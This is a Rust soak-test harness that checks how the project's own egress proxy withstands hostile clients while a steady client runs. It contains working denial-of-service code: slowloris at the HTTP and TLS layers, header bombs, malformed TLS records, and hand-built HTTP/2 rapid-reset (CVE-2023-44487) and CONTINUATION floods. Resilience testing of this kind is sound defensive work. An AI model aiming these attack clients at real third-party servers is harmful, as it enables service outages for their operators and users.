//! The sandbox side of `cargo xtask soak`: a steady client alone, then the same client while
//! hostile ones run at once: thousands of idle intercepted connections, slowloris at the HTTP
//! and the TLS layer, header bombs, malformed TLS records, HTTP/2 rapid reset
//! (CVE-2023-44487) and CONTINUATION floods. Every hostile client counts how each attempt
//! ended, so the report says what egress did with it, not only that egress survived.

use std::{
    collections::BTreeMap,
    io::Write as _,
    sync::{
        atomic::{AtomicBool, AtomicUsize, Ordering},
        Arc, Mutex,
    },
    time::{Duration, Instant},
};

use anyhow::{bail, Context as _, Result};
use serde::{Deserialize, Serialize};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tokio_rustls::TlsConnector;

use super::{client_config, get, open_loop, timed, Client, CountResult, OpenLoopResult, Tls};

/// How often each hostile client starts a new attempt: hostile, not a CPU flood. On the
/// harness's 2 cores the attackers share the CPU with egress and the steady client, so an
/// unpaced loop would measure the attackers' own CPU use rather than egress's resilience.
const MALFORMED_EVERY: Duration = Duration::from_millis(25);
const BOMB_EVERY: Duration = Duration::from_millis(100);
const H2_ATTACK_EVERY: Duration = Duration::from_millis(250);

/// What the soak runs, from the harness.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Plan {
    pub tls: Tls,
    pub name: String,
    /// The steady client: requests per second over `conns` keep-alive connections.
    pub rate: f64,
    pub conns: usize,
    pub unloaded_secs: f64,
    pub loaded_secs: f64,
    /// Idle intercepted keep-alive connections held through the loaded phase.
    pub idle: usize,
    /// Slowloris clients at each layer (HTTP headers, TLS hello).
    pub slowloris: usize,
    /// Paths, one per client kind, so the audit can be checked per kind.
    pub steady_path: String,
    pub idle_path: String,
    pub attack_path: String,
}

/// How every hostile attempt of one kind ended.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Attack {
    pub tries: u64,
    /// Outcome → count, e.g. `status 431`, `closed by egress`, `GOAWAY`.
    pub outcomes: BTreeMap<String, u64>,
    /// The largest amount one attempt got in before egress stopped it (bytes, streams or
    /// seconds, by kind; see `unit`).
    pub max_before_stop: u64,
    pub unit: String,
}

#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Outcome {
    pub unloaded: OpenLoopResult,
    pub loaded: OpenLoopResult,
    /// Idle connections opened (each after one complete request) and held.
    pub idle: CountResult,
    pub attacks: BTreeMap<String, Attack>,
}

#[derive(Default)]
struct Board {
    attacks: Mutex<BTreeMap<String, Attack>>,
}

impl Board {
    fn count(&self, kind: &str, unit: &str, outcome: &str, got_in: u64) {
        let mut a = self.attacks.lock().unwrap_or_else(|e| e.into_inner());
        let e = a.entry(kind.to_owned()).or_default();
        e.tries += 1;
        *e.outcomes.entry(outcome.to_owned()).or_default() += 1;
        e.max_before_stop = e.max_before_stop.max(got_in);
        unit.clone_into(&mut e.unit);
    }
}

fn marker(m: &str) {
    println!("{m}");
    let _ = std::io::stdout().flush();
}

pub fn run(plan: Plan) -> Result<Outcome> {
    // The steady client keeps its own thread and runtime: the hostile clients' tasks must
    // not delay its schedule, only egress may.
    let steady_rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    let steady = Client::new(&plan.tls, &plan.name)?;
    let unloaded = steady_rt.block_on(open_loop(
        steady.clone(),
        plan.steady_path.clone(),
        plan.rate,
        plan.unloaded_secs,
        true,
        plan.conns,
    ))?;
    marker("@@UNLOADED");

    let hostile_rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()?;
    let stop = Arc::new(AtomicBool::new(false));
    let board = Arc::new(Board::default());
    let h1 = Client::new(&plan.tls, &plan.name)?;
    let h2 = h2_client(&plan.tls, &plan.name)?;
    let opened = Arc::new(AtomicUsize::new(0));
    let idle = hostile_rt.spawn(hold_idle(
        h1.clone(),
        plan.idle_path.clone(),
        plan.idle,
        opened.clone(),
        stop.clone(),
    ));
    let mut tasks = Vec::new();
    for _ in 0..plan.slowloris {
        tasks.push(hostile_rt.spawn(slowloris_http(h1.clone(), board.clone(), stop.clone())));
        tasks.push(hostile_rt.spawn(slowloris_tls(h1.clone(), board.clone(), stop.clone())));
    }
    tasks.push(hostile_rt.spawn(header_bombs(
        h1.clone(),
        h2.clone(),
        plan.attack_path.clone(),
        board.clone(),
        stop.clone(),
    )));
    tasks.push(hostile_rt.spawn(malformed_tls(h1.clone(), board.clone(), stop.clone())));
    tasks.push(hostile_rt.spawn(rapid_reset(
        h2.clone(),
        plan.attack_path.clone(),
        board.clone(),
        stop.clone(),
    )));
    tasks.push(hostile_rt.spawn(continuation_flood(
        h2.clone(),
        plan.attack_path.clone(),
        board.clone(),
        stop.clone(),
    )));
    // The loaded phase starts once the idle connections are all held (or their opener gave
    // up), so that it measures the steady client beside every one of them.
    let deadline = Instant::now() + Duration::from_secs(120);
    while opened.load(Ordering::Relaxed) < plan.idle
        && !idle.is_finished()
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(50));
    }
    marker(&format!("@@HELD {}", opened.load(Ordering::Relaxed)));
    let loaded = steady_rt.block_on(open_loop(
        steady,
        plan.steady_path.clone(),
        plan.rate,
        plan.loaded_secs,
        true,
        plan.conns,
    ))?;
    marker("@@LOADED");
    stop.store(true, Ordering::Relaxed);
    let idle = hostile_rt
        .block_on(idle)
        .context("the idle client panicked")?;
    for t in tasks {
        hostile_rt
            .block_on(t)
            .context("a hostile client panicked")?;
    }
    hostile_rt.shutdown_timeout(Duration::from_secs(5));
    let attacks = board
        .attacks
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .clone();
    Ok(Outcome {
        unloaded,
        loaded,
        idle,
        attacks,
    })
}

/// Opens `count` connections, 64 at a time, each after one complete request, and holds
/// their sockets until `stop`.
async fn hold_idle(
    client: Client,
    path: String,
    count: usize,
    opened: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
) -> CountResult {
    let tally = Arc::new(super::Tally::default());
    let next = Arc::new(AtomicUsize::new(0));
    let held = Arc::new(Mutex::new(Vec::with_capacity(count)));
    let start = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    let (client, path) = (Arc::new(client), Arc::new(path));
    for _ in 0..64 {
        let (client, path, tally, next, held, opened, stop) = (
            client.clone(),
            path.clone(),
            tally.clone(),
            next.clone(),
            held.clone(),
            opened.clone(),
            stop.clone(),
        );
        tasks.spawn(async move {
            let mut buf = Vec::with_capacity(4096);
            while next.fetch_add(1, Ordering::Relaxed) < count && !stop.load(Ordering::Relaxed) {
                let r = async {
                    let (mut s, _) = client.tls(&client.name).await?;
                    get(&mut s, &client.name, &path, &mut buf).await?;
                    Ok::<_, anyhow::Error>(s)
                }
                .await;
                match r {
                    Ok(s) => {
                        held.lock()
                            .unwrap_or_else(|e| e.into_inner())
                            .push(s.into_inner().0);
                        tally.done.fetch_add(1, Ordering::Relaxed);
                        opened.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(e) => tally.error(&e),
                }
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    let result = tally.result(start.elapsed().as_secs_f64());
    while !stop.load(Ordering::Relaxed) {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    drop(held);
    result
}

/// Waits up to `limit` for the peer to close or answer; `None` while it stays silent.
async fn peer_reaction<S: tokio::io::AsyncRead + Unpin>(
    s: &mut S,
    limit: Duration,
) -> Option<String> {
    let mut b = [0u8; 4096];
    match tokio::time::timeout(limit, s.read(&mut b)).await {
        Err(_) => None,
        Ok(Ok(0)) => Some("closed by egress".into()),
        Ok(Err(e)) => Some(format!("closed by egress ({})", e.kind())),
        Ok(Ok(n)) => Some(describe_reply(&b[..n])),
    }
}

fn describe_reply(b: &[u8]) -> String {
    if let Some(rest) = b.strip_prefix(b"HTTP/1.1 ") {
        return format!(
            "status {}",
            String::from_utf8_lossy(&rest[..rest.len().min(3)])
        );
    }
    match b.first() {
        Some(0x15) => "TLS alert".into(),
        Some(0x16) => "TLS handshake answered".into(),
        _ => format!("{} bytes of reply", b.len()),
    }
}

/// TLS, then a request head one byte per second that never ends.
async fn slowloris_http(client: Client, board: Arc<Board>, stop: Arc<AtomicBool>) {
    while !stop.load(Ordering::Relaxed) {
        let Ok((mut s, _)) = client.tls(&client.name).await else {
            board.count("slowloris (HTTP headers)", "s", "handshake failed", 0);
            tokio::time::sleep(Duration::from_secs(1)).await;
            continue;
        };
        let head = format!("GET / HTTP/1.1\r\nHost: {}\r\nX-Slow: ", client.name);
        let bytes = head.into_bytes().into_iter().chain(std::iter::repeat(b'a'));
        let (outcome, secs) = trickle(&mut s, bytes, &stop).await;
        board.count("slowloris (HTTP headers)", "s", &outcome, secs);
    }
}

/// A TLS record header, then its ClientHello one byte per second.
async fn slowloris_tls(client: Client, board: Arc<Board>, stop: Arc<AtomicBool>) {
    while !stop.load(Ordering::Relaxed) {
        let Ok(mut s) = timed(TcpStream::connect(client.addr)).await else {
            board.count("slowloris (TLS hello)", "s", "connect failed", 0);
            tokio::time::sleep(Duration::from_secs(1)).await;
            continue;
        };
        let hello = [
            0x16u8, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
        ];
        let bytes = hello.into_iter().chain(std::iter::repeat(0x42));
        let (outcome, secs) = trickle(&mut s, bytes, &stop).await;
        board.count("slowloris (TLS hello)", "s", &outcome, secs);
    }
}

/// Writes `bytes` one a second, watching for egress's reaction, until egress acts or the
/// soak stops. Returns the outcome and, when egress ended it, after how many seconds.
async fn trickle<S>(s: &mut S, bytes: impl Iterator<Item = u8>, stop: &AtomicBool) -> (String, u64)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let started = Instant::now();
    let mut outcome = "open when the soak ended".to_owned();
    for b in bytes {
        if stop.load(Ordering::Relaxed) {
            break;
        }
        if s.write_all(&[b]).await.is_err() {
            outcome = "closed by egress".into();
            break;
        }
        if let Some(r) = peer_reaction(s, Duration::from_secs(1)).await {
            outcome = r;
            break;
        }
    }
    let secs = if outcome.starts_with("open") {
        0
    } else {
        started.elapsed().as_secs()
    };
    (outcome, secs)
}

/// Writes `bytes` in 16 KiB pieces; how many went in, or, when egress stopped taking them,
/// how that ended and how many went in first.
async fn push<S>(s: &mut S, bytes: &[u8]) -> Result<u64, (String, u64)>
where
    S: tokio::io::AsyncWrite + Unpin,
{
    let mut sent = 0u64;
    for piece in bytes.chunks(16 * 1024) {
        match tokio::time::timeout(Duration::from_secs(10), s.write_all(piece)).await {
            Err(_) => return Err(("egress stopped reading".into(), sent)),
            Ok(Err(_)) => return Err(("closed by egress".into(), sent)),
            Ok(Ok(())) => sent += piece.len() as u64,
        }
    }
    Ok(sent)
}

/// Writes `bytes` in pieces, then waits for egress's answer; returns the outcome and how
/// many bytes went in first.
async fn push_until_answered<S>(s: &mut S, bytes: &[u8]) -> (String, u64)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let sent = match push(s, bytes).await {
        Ok(n) => n,
        Err(ended) => return ended,
    };
    let _ = s.flush().await;
    let outcome = peer_reaction(s, Duration::from_secs(10))
        .await
        .unwrap_or_else(|| "no answer in 10 s".into());
    (outcome, sent)
}

/// HTTP/1.1 heads with 10,000 headers, and with one 1 MiB header; an HTTP/2 header block of
/// 1 MiB over CONTINUATION frames. One at a time, in turn.
async fn header_bombs(
    h1: Client,
    h2: Client,
    path: String,
    board: Arc<Board>,
    stop: Arc<AtomicBool>,
) {
    let mut many = format!("GET {path} HTTP/1.1\r\nHost: {}\r\n", h1.name);
    for i in 0..10_000 {
        many.push_str(&format!("X-Bomb-{i}: 1\r\n"));
    }
    many.push_str("\r\n");
    let huge = format!(
        "GET {path} HTTP/1.1\r\nHost: {}\r\nX-Bomb: {}\r\n\r\n",
        h1.name,
        "b".repeat(1 << 20)
    );
    let mut block = request_block(&h2.name, &path);
    while block.len() < 1 << 20 {
        block.extend(literal_header("x-bomb", &"b".repeat(100)));
    }
    let mut round = 0u64;
    while !stop.load(Ordering::Relaxed) {
        let paced = tokio::time::sleep(BOMB_EVERY);
        round += 1;
        let (kind, outcome, sent) = match round % 3 {
            0 => match h1.tls(&h1.name).await {
                Ok((mut s, _)) => {
                    let (o, n) = push_until_answered(&mut s, many.as_bytes()).await;
                    ("header bomb (HTTP/1.1, 10,000 headers)", o, n)
                }
                Err(_) => (
                    "header bomb (HTTP/1.1, 10,000 headers)",
                    "handshake failed".into(),
                    0,
                ),
            },
            1 => match h1.tls(&h1.name).await {
                Ok((mut s, _)) => {
                    let (o, n) = push_until_answered(&mut s, huge.as_bytes()).await;
                    ("header bomb (HTTP/1.1, one 1 MiB header)", o, n)
                }
                Err(_) => (
                    "header bomb (HTTP/1.1, one 1 MiB header)",
                    "handshake failed".into(),
                    0,
                ),
            },
            _ => match h2.tls(&h2.name).await {
                Ok((mut s, _)) => {
                    let mut bytes = h2_preface();
                    let mut chunks = block.chunks(16 * 1024).peekable();
                    let first = chunks.next().unwrap_or_default();
                    let last = chunks.peek().is_none();
                    bytes.extend(frame(
                        FRAME_HEADERS,
                        FLAG_END_STREAM | if last { FLAG_END_HEADERS } else { 0 },
                        1,
                        first,
                    ));
                    while let Some(c) = chunks.next() {
                        let flags = if chunks.peek().is_none() {
                            FLAG_END_HEADERS
                        } else {
                            0
                        };
                        bytes.extend(frame(FRAME_CONTINUATION, flags, 1, c));
                    }
                    let (o, n) = push_h2_until_answered(&mut s, &bytes).await;
                    ("header bomb (HTTP/2, 1 MiB HPACK block)", o, n)
                }
                Err(_) => (
                    "header bomb (HTTP/2, 1 MiB HPACK block)",
                    "handshake failed".into(),
                    0,
                ),
            },
        };
        board.count(kind, "bytes", &outcome, sent);
        paced.await;
    }
}

/// Garbage, bad record lengths, the wrong record type, a hello cut short, and a hello
/// followed by garbage: each on a new connection, in turn.
async fn malformed_tls(client: Client, board: Arc<Board>, stop: Arc<AtomicBool>) {
    let cases: [(&str, Vec<u8>); 5] = [
        (
            "random bytes",
            (0..1024u32).map(|i| (i * 7919 % 251) as u8).collect(),
        ),
        (
            "record length over 2^14",
            vec![0x16, 0x03, 0x01, 0xff, 0xff, 0x01, 0x00],
        ),
        (
            "application data first",
            vec![0x17, 0x03, 0x03, 0x00, 0x04, 1, 2, 3, 4],
        ),
        (
            "hello cut short, then FIN",
            vec![
                0x16, 0x03, 0x01, 0x00, 0x80, 0x01, 0x00, 0x00, 0x7c, 0x03, 0x03,
            ],
        ),
        (
            "handshake type other than hello",
            vec![0x16, 0x03, 0x01, 0x00, 0x04, 0x02, 0x00, 0x00, 0x00],
        ),
    ];
    let mut round = 0usize;
    while !stop.load(Ordering::Relaxed) {
        let paced = tokio::time::sleep(MALFORMED_EVERY);
        let (name, bytes) = &cases[round % cases.len()];
        round += 1;
        let kind = format!("malformed TLS: {name}");
        let Ok(mut s) = timed(TcpStream::connect(client.addr)).await else {
            board.count(&kind, "bytes", "connect failed", 0);
            continue;
        };
        let outcome = match s.write_all(bytes).await {
            Err(_) => "closed by egress".into(),
            Ok(()) => {
                if name.ends_with("FIN") {
                    let _ = s.shutdown().await;
                }
                peer_reaction(&mut s, Duration::from_secs(15))
                    .await
                    .unwrap_or_else(|| "no answer in 15 s".into())
            }
        };
        board.count(&kind, "bytes", &outcome, bytes.len() as u64);
        paced.await;
    }
}

/// HTTP/2 rapid reset: HEADERS then RST_STREAM(CANCEL), stream after stream, as fast as
/// the connection takes them, until egress ends the connection (or 20,000 streams).
async fn rapid_reset(client: Client, path: String, board: Arc<Board>, stop: Arc<AtomicBool>) {
    let block = request_block(&client.name, &path);
    while !stop.load(Ordering::Relaxed) {
        let paced = tokio::time::sleep(H2_ATTACK_EVERY);
        let s = match client.tls(&client.name).await {
            Ok((s, _)) => s,
            Err(_) => {
                board.count("HTTP/2 rapid reset", "streams", "handshake failed", 0);
                tokio::time::sleep(Duration::from_millis(200)).await;
                continue;
            }
        };
        if let Err(e) = require_h2(&s) {
            board.count("HTTP/2 rapid reset", "streams", &e.to_string(), 0);
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        }
        let (mut rd, mut wr) = tokio::io::split(s);
        let ended = Arc::new(AtomicBool::new(false));
        let reader = {
            let ended = ended.clone();
            tokio::spawn(async move {
                let why = read_frames_until_end(&mut rd).await;
                ended.store(true, Ordering::Relaxed);
                why
            })
        };
        let mut streams = 0u64;
        let mut outcome = None;
        if wr.write_all(&h2_preface()).await.is_err() {
            outcome = Some("closed by egress".to_owned());
        }
        while outcome.is_none() && streams < 20_000 && !stop.load(Ordering::Relaxed) {
            if ended.load(Ordering::Relaxed) {
                break;
            }
            let mut batch = Vec::with_capacity(100 * (block.len() + 40));
            for _ in 0..100 {
                let id = (streams * 2 + 1) as u32;
                batch.extend(frame(
                    FRAME_HEADERS,
                    FLAG_END_STREAM | FLAG_END_HEADERS,
                    id,
                    &block,
                ));
                batch.extend(frame(FRAME_RST_STREAM, 0, id, &8u32.to_be_bytes()));
                streams += 1;
            }
            match tokio::time::timeout(Duration::from_secs(10), wr.write_all(&batch)).await {
                Err(_) => outcome = Some("egress stopped reading".into()),
                Ok(Err(_)) => outcome = Some("closed by egress".into()),
                Ok(Ok(())) => {}
            }
        }
        let why = match tokio::time::timeout(Duration::from_secs(10), reader).await {
            Ok(Ok(why)) => why,
            _ => "connection still open".into(),
        };
        let outcome = match outcome {
            Some(o) if !why.starts_with("connection still") => format!("{o}; {why}"),
            Some(o) => o,
            None if streams >= 20_000 => format!("all 20,000 streams taken; {why}"),
            None => why,
        };
        board.count("HTTP/2 rapid reset", "streams", &outcome, streams);
        paced.await;
    }
}

/// HTTP/2 CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION frames that
/// never end the block, until egress stops it (or 64 MiB).
async fn continuation_flood(
    client: Client,
    path: String,
    board: Arc<Board>,
    stop: Arc<AtomicBool>,
) {
    let mut fragment = Vec::new();
    while fragment.len() < 16 * 1024 - 200 {
        fragment.extend(literal_header("x-flood", &"f".repeat(100)));
    }
    while !stop.load(Ordering::Relaxed) {
        let paced = tokio::time::sleep(H2_ATTACK_EVERY);
        let mut s = match client.tls(&client.name).await {
            Ok((s, _)) => s,
            Err(_) => {
                board.count("HTTP/2 CONTINUATION flood", "bytes", "handshake failed", 0);
                tokio::time::sleep(Duration::from_millis(200)).await;
                continue;
            }
        };
        if let Err(e) = require_h2(&s) {
            board.count("HTTP/2 CONTINUATION flood", "bytes", &e.to_string(), 0);
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        }
        let mut bytes = h2_preface();
        bytes.extend(frame(
            FRAME_HEADERS,
            FLAG_END_STREAM,
            1,
            &request_block(&client.name, &path),
        ));
        let mut sent = 0u64;
        let mut outcome = match s.write_all(&bytes).await {
            Ok(()) => None,
            Err(_) => Some("closed by egress".to_owned()),
        };
        let cont = frame(FRAME_CONTINUATION, 0, 1, &fragment);
        let mut heard = Vec::new();
        while outcome.is_none() && sent < 64 << 20 && !stop.load(Ordering::Relaxed) {
            match tokio::time::timeout(Duration::from_secs(10), s.write_all(&cont)).await {
                Err(_) => outcome = Some("egress stopped reading".into()),
                Ok(Err(_)) => outcome = Some("closed by egress".into()),
                Ok(Ok(())) => sent += cont.len() as u64,
            }
            // A GOAWAY, a reset or a close from egress ends the flood; its SETTINGS and
            // WINDOW_UPDATEs do not.
            let mut b = [0u8; 4096];
            if let Ok(r) = tokio::time::timeout(Duration::from_millis(0), s.read(&mut b)).await {
                match r {
                    Ok(0) | Err(_) => outcome = Some("closed by egress".into()),
                    Ok(n) => {
                        heard.extend_from_slice(&b[..n]);
                        outcome = final_frame(&mut heard);
                    }
                }
            }
        }
        let outcome = outcome.unwrap_or_else(|| {
            if sent >= 64 << 20 {
                "64 MiB taken without a word".into()
            } else {
                "open when the soak ended".into()
            }
        });
        board.count("HTTP/2 CONTINUATION flood", "bytes", &outcome, sent);
        paced.await;
    }
}

/// [`push_until_answered`] for HTTP/2: the answer is read as frames.
async fn push_h2_until_answered<S>(s: &mut S, bytes: &[u8]) -> (String, u64)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
{
    let sent = match push(s, bytes).await {
        Ok(n) => n,
        Err(ended) => return ended,
    };
    let why = tokio::time::timeout(Duration::from_secs(10), read_frames_until_end(s))
        .await
        .unwrap_or_else(|_| "no answer in 10 s".into());
    (why, sent)
}

/// Reads HTTP/2 frames until the connection ends or says something final.
async fn read_frames_until_end<S: tokio::io::AsyncRead + Unpin>(s: &mut S) -> String {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    loop {
        if let Some(why) = final_frame(&mut buf) {
            return why;
        }
        match s.read(&mut chunk).await {
            Ok(0) | Err(_) => return "closed by egress".into(),
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
}

/// Consumes the complete frames in `buf`; the first final one (GOAWAY with its error code,
/// RST_STREAM, or a response HEADERS) is returned.
fn final_frame(buf: &mut Vec<u8>) -> Option<String> {
    while buf.len() >= 9 {
        let len = (usize::from(buf[0]) << 16) | (usize::from(buf[1]) << 8) | usize::from(buf[2]);
        if buf.len() < 9 + len {
            break;
        }
        let (ty, payload) = (buf[3], &buf[9..9 + len]);
        let code = |at: usize| {
            payload
                .get(at..at + 4)
                .map(|c| u32::from_be_bytes([c[0], c[1], c[2], c[3]]))
                .unwrap_or(0)
        };
        let why = match ty {
            FRAME_GOAWAY => Some(format!("GOAWAY {}", h2_error(code(4)))),
            FRAME_RST_STREAM => Some(format!("RST_STREAM {}", h2_error(code(0)))),
            FRAME_HEADERS => Some("response HEADERS".into()),
            _ => None,
        };
        buf.drain(..9 + len);
        if why.is_some() {
            return why;
        }
    }
    None
}

fn h2_error(code: u32) -> &'static str {
    match code {
        0 => "NO_ERROR",
        1 => "PROTOCOL_ERROR",
        2 => "INTERNAL_ERROR",
        6 => "FRAME_SIZE_ERROR",
        7 => "REFUSED_STREAM",
        8 => "CANCEL",
        9 => "COMPRESSION_ERROR",
        11 => "ENHANCE_YOUR_CALM",
        _ => "other error",
    }
}

const FRAME_HEADERS: u8 = 0x1;
const FRAME_RST_STREAM: u8 = 0x3;
const FRAME_SETTINGS: u8 = 0x4;
const FRAME_GOAWAY: u8 = 0x7;
const FRAME_CONTINUATION: u8 = 0x9;
const FLAG_END_STREAM: u8 = 0x1;
const FLAG_END_HEADERS: u8 = 0x4;

fn frame(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.push(ty);
    f.push(flags);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// The connection preface and an empty SETTINGS frame.
fn h2_preface() -> Vec<u8> {
    let mut b = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    b.extend(frame(FRAME_SETTINGS, 0, 0, &[]));
    b
}

/// HPACK for `GET https://{authority}{path}`, without Huffman coding.
fn request_block(authority: &str, path: &str) -> Vec<u8> {
    // :method GET (static 2), :scheme https (static 7), then :path (name 4) and
    // :authority (name 1) as literals without indexing.
    let mut b = vec![0x82, 0x87];
    b.push(0x04);
    hpack_string(&mut b, path);
    b.push(0x01);
    hpack_string(&mut b, authority);
    b
}

/// A literal header field without indexing, with a new name.
fn literal_header(name: &str, value: &str) -> Vec<u8> {
    let mut b = vec![0x00];
    hpack_string(&mut b, name);
    hpack_string(&mut b, value);
    b
}

/// An HPACK string literal (RFC 7541 §5.2) without Huffman coding.
fn hpack_string(b: &mut Vec<u8>, s: &str) {
    let mut len = s.len();
    if len < 127 {
        b.push(len as u8);
    } else {
        b.push(127);
        len -= 127;
        while len >= 128 {
            b.push((len % 128) as u8 | 0x80);
            len /= 128;
        }
        b.push(len as u8);
    }
    b.extend_from_slice(s.as_bytes());
}

/// The harness's TLS client, offering only `h2`.
fn h2_client(tls: &Tls, name: &str) -> Result<Client> {
    let ca = match &tls.ca {
        Some(p) => p.clone(),
        None => std::env::var_os("SSL_CERT_FILE")
            .map(Into::into)
            .context("no CA given and SSL_CERT_FILE is unset")?,
    };
    let mut config = (*client_config(&ca)?).clone();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(Client {
        addr: tls.addr,
        connector: TlsConnector::from(Arc::new(config)),
        name: name.to_owned(),
    })
}

/// Fails unless the server negotiated `h2` (the attack would otherwise be HTTP/1.1 noise).
fn require_h2(s: &tokio_rustls::client::TlsStream<TcpStream>) -> Result<()> {
    match s.get_ref().1.alpn_protocol() {
        Some(b"h2") => Ok(()),
        other => bail!("egress did not negotiate h2: {other:?}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_lengths_use_the_prefix_then_continuation_bytes() {
        let mut b = Vec::new();
        hpack_string(&mut b, &"a".repeat(126));
        assert_eq!(b[0], 126);
        let mut b = Vec::new();
        hpack_string(&mut b, &"a".repeat(127 + 300));
        // 300 = 0b10_0101100: low 7 bits with the continuation flag, then the rest.
        assert_eq!(&b[..3], &[127, 0x80 | 44, 2]);
        assert_eq!(b.len(), 3 + 427);
    }

    #[test]
    fn settings_are_not_final_but_a_goaway_is() {
        let mut buf = frame(FRAME_SETTINGS, 0, 0, &[]);
        let mut goaway = 1u32.to_be_bytes().to_vec();
        goaway.extend(11u32.to_be_bytes());
        let whole = frame(FRAME_GOAWAY, 0, 0, &goaway);
        buf.extend_from_slice(&whole[..12]);
        assert_eq!(final_frame(&mut buf), None, "half a GOAWAY is not one yet");
        buf.extend_from_slice(&whole[12..]);
        assert_eq!(
            final_frame(&mut buf).as_deref(),
            Some("GOAWAY ENHANCE_YOUR_CALM")
        );
    }

    #[test]
    fn frames_carry_a_24_bit_length_and_a_31_bit_stream() {
        let f = frame(FRAME_RST_STREAM, 0, 3, &8u32.to_be_bytes());
        assert_eq!(&f[..9], &[0, 0, 4, 3, 0, 0, 0, 0, 3]);
    }
}
